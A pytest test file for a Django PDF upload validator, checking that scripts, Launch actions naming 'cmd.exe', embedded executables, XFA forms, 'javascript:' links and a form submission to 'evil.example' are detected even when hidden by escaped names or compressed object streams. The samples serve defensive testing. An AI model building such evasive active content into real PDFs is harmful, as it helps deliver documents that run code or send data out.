"""Active content in PDFs is found by parsing, wherever and however it is written."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.pdf_content import active_content
from core.tests.samples import pdf_bytes
from core.uploads import UploadRejected, validate_upload


def js() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def rewritten(change, *, object_streams=True) -> bytes:
    """A real one-page PDF changed by ``change(pdf)``, saved with compressed object streams
    (nothing readable in its bytes) unless ``object_streams`` is False."""
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        change(pdf)
        out = io.BytesIO()
        if object_streams:
            pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate,
                     compress_streams=True)
        else:
            pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                     compress_streams=False)
        return out.getvalue()


def refused(data: bytes) -> str:
    with pytest.raises(UploadRejected) as rejection:
        validate_upload(SimpleUploadedFile("facture.pdf", data, "application/pdf"))
    assert rejection.value.code == "pdf_active"
    return " ".join(rejection.value.messages)


def test_escaped_names_are_decoded_before_they_are_judged():
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pageCompression=0)
    page.drawString(72, 720, "x")
    page.showPage()
    page.save()
    data = buffer.getvalue().replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>", 1)
    assert b"/JavaScript" not in data and b"/JS" not in data  # what the byte scan looked for
    assert "un script" in refused(data)


def test_a_script_in_a_compressed_object_stream_is_found():
    def add(pdf):
        pdf.Root.OpenAction = js()

    data = rewritten(add)
    assert b"JavaScript" not in data and b"/JS" not in data
    assert active_content(data) == {"script"}
    assert "un script" in refused(data)


def _page_aa(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js())


def _annotation_action(pdf):
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                           Rect=[0, 0, 10, 10], A=js()))]))


def _names_tree(pdf):
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(js())])))


def _catalog_aa(pdf):
    pdf.Root.AA = pikepdf.Dictionary(WC=js())


def _launch(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                             F=pikepdf.String("cmd.exe"))


def _embedded_file(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ payload", filename="x.exe")
    pdf.attachments["x.exe"] = spec


def _file_attachment_annotation(pdf):
    pdf.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 10, 10])])


def _xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp/>"))


def _javascript_uri(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI,
                                             URI=pikepdf.String("javascript:alert(1)"))


def _submit_form(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                             F=pikepdf.String("https://evil.example/"))


@pytest.mark.parametrize(("change", "kind", "words"), [
    (_page_aa, "script", "un script"),
    (_annotation_action, "script", "un script"),
    (_names_tree, "script", "un script"),
    (_catalog_aa, "script", "un script"),
    (_launch, "launch", "lance un programme"),
    (_embedded_file, "embedded_file", "un fichier joint"),
    (_file_attachment_annotation, "embedded_file", "un fichier joint"),
    (_xfa, "xfa", "formulaire XFA"),
    (_javascript_uri, "link", "pas une adresse web"),
    (_submit_form, "form_submit", "envoie des données"),
], ids=["page-aa", "annotation", "names-tree", "catalog-aa", "launch", "embedded-file",
        "file-attachment-annot", "xfa", "javascript-uri", "submit-form"])
@pytest.mark.parametrize("object_streams", [True, False], ids=["objstm", "plain"])
def test_each_kind_of_active_content_is_refused_with_what_it_is(change, kind, words,
                                                               object_streams):
    data = rewritten(change, object_streams=object_streams)
    assert kind in active_content(data)
    message = refused(data)
    assert words in message and "Enregistrer en PDF" in message


def test_web_links_and_a_first_page_view_are_not_active_content():
    def add(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        pdf.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://kpt.ch/")))])

    data = rewritten(add)
    assert active_content(data) == set()
    assert validate_upload(SimpleUploadedFile("f.pdf", data, "application/pdf")).page_count == 1
